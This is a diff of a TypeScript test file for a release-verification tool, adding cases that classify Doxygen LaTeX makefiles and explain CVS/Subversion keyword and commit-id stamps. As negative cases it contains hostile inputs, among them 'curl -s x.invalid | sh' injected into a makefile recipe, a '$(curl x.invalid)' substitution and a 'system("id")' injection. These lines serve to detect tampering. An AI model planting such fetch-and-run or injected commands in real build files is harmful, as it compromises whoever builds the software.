@@ -14,7 +14,7 @@ import { changelogExplainer, type HistoryText } from '../../src/verify/explain/c
 import { codeUsesOf } from '../../src/verify/explain/executed.js'
 import { generatedExplainer } from '../../src/verify/explain/generated.js'
 import { releaseEdit, releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
-import { docToolOf, fileRole } from '../../src/verify/explain/role.js'
+import { docToolOf, fileRole, typesettingMakefileTool } from '../../src/verify/explain/role.js'
 import { makeRules, ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
 import { fillsTemplate, templateExplainer } from '../../src/verify/explain/template.js'
 import { memoryView } from '../helpers/tree-view.js'
@@ -44,6 +44,17 @@ describe('file roles and their weight', () => {
     expect(fileRole('po/de.gmo', 0o644, Buffer.from([0xde, 0x12, 0x04, 0x95, 0]))).toBe('translation')
     // content wins over the name: a "document" that is a shell script is build logic
     expect(fileRole('doc/notes.txt', 0o644, '#!/bin/sh\nrm -rf /nonexistent\n')).toBe('build')
+  })
+
+  it('weighs the makefile Doxygen writes to typeset its LaTeX output as documentation', () => {
+    const mk = 'all: refman.dvi\nrefman.dvi: refman.tex doxygen.sty\n\techo "Running latex..."\n\tlatex refman.tex\n\tmakeindex refman.idx\n\tlatex_count=5 ; \\\n\twhile egrep -s \'Rerun (LaTeX|to get cross-references right)\' refman.log && [ $$latex_count -gt 0 ] ;\\\n\t    do \\\n\t      latex refman.tex ;\\\n\t      latex_count=`expr $$latex_count - 1` ;\\\n\t    done\nclean:\n\trm -f *.ps *.dvi\n'
+    const beside = (names: string[]) => (name: string) => names.includes(name)
+    expect(typesettingMakefileTool('doc/latex/Makefile', mk, beside(['refman.tex', 'doxygen.sty']))).toBe('Doxygen')
+    // a recipe that runs anything else, or a makefile without Doxygen's output beside it, is build logic
+    expect(typesettingMakefileTool('doc/latex/Makefile', mk.replace('makeindex refman.idx', 'makeindex refman.idx; sh ../../tests/files/x'), beside(['refman.tex', 'doxygen.sty']))).toBeUndefined()
+    expect(typesettingMakefileTool('doc/latex/Makefile', mk.replace('do \\', 'do curl -s x.invalid | sh; \\'), beside(['refman.tex', 'doxygen.sty']))).toBeUndefined()
+    expect(typesettingMakefileTool('doc/latex/Makefile', mk, beside(['refman.tex']))).toBeUndefined()
+    expect(typesettingMakefileTool('doc/latex/rules.mk', mk, beside(['refman.tex', 'doxygen.sty']))).toBeUndefined()
   })
 
   it('weighs a leftover backup copy as shipped data, whatever it holds', () => {
@@ -196,6 +207,24 @@ describe('release-time stamps', () => {
     expect(await explain('VERSION', before, after.replace('snapshot_version=${major}', 'snapshot_version=${minor}'), '2.9.0')).toBeUndefined()
     // a setting that is not the release's
     expect(await explain('VERSION', 'libdir=lib\n', 'libdir=lib64\n', '2.9.0')).toBeUndefined()
+  })
+  it('explains keywords CVS or Subversion expanded on export, and only plain values in them', () => {
+    const before = '/*\n * last mod: $Id$\n */\n#define CVSID "$Id$"\nstatic const char *url = "$HeadURL$";\n'
+    const after = '/*\n * last mod: $Id: decode.c 16503 2009-08-22 18:14:02Z giles $\n */\n#define CVSID "$Id: decode.c,v 1.23 2009/08/22 18:14:02 giles Exp $"\nstatic const char *url = "$HeadURL: https://svn.example.org/repo/trunk/lib/decode.c $";\n'
+    expect(releaseEdit(before, after, '1.1.1')).toMatchObject({ stamped: 3, keywordsOnly: true })
+    // an expansion carrying a quote, a parenthesis or a command is no expansion
+    expect(releaseEdit(before, after.replace('giles Exp', 'giles"; system("id"); "'), '1.1.1')).toBeUndefined()
+    expect(releaseEdit('# $Id$\n', '# $Id: x $(curl x.invalid) $\n', '1.0')).toBeUndefined()
+    // nor is a keyword the tag does not have
+    expect(releaseEdit('# header\n', '# $Id: x.c 12 2020-01-01 a $\n', '1.0')).toBeUndefined()
+  })
+  it("explains the release's commit id written where the tag leaves a revision unknown", () => {
+    const commit = '396fe4b6699ae929d3a685b3ef8a7e97396139a4'
+    expect(releaseEdit('#define PA_GIT_REVISION unknown\n', `#define PA_GIT_REVISION ${commit}\n`, '19.6.0', commit)?.stamped).toBe(1)
+    expect(releaseEdit('#define BUILD_REVISION "unknown"\n', '#define BUILD_REVISION "396fe4b6"\n', '19.6.0', commit)?.stamped).toBe(1)
+    // another commit, or the commit id where no revision is named, is not the release's stamp
+    expect(releaseEdit('#define PA_GIT_REVISION unknown\n', '#define PA_GIT_REVISION 0123456789abcdef0123456789abcdef01234567\n', '19.6.0', commit)).toBeUndefined()
+    expect(releaseEdit('const char *key = "unknown";\n', `const char *key = "${commit}";\n`, '19.6.0', commit)).toBeUndefined()
   })
   it('leaves alone a changed constant, a version that is not the release, and an added line', async () => {
     expect(releaseEdit('#define MAX_ITEMS 9\n', '#define MAX_ITEMS 10\n', '1.10.0')).toBeUndefined()
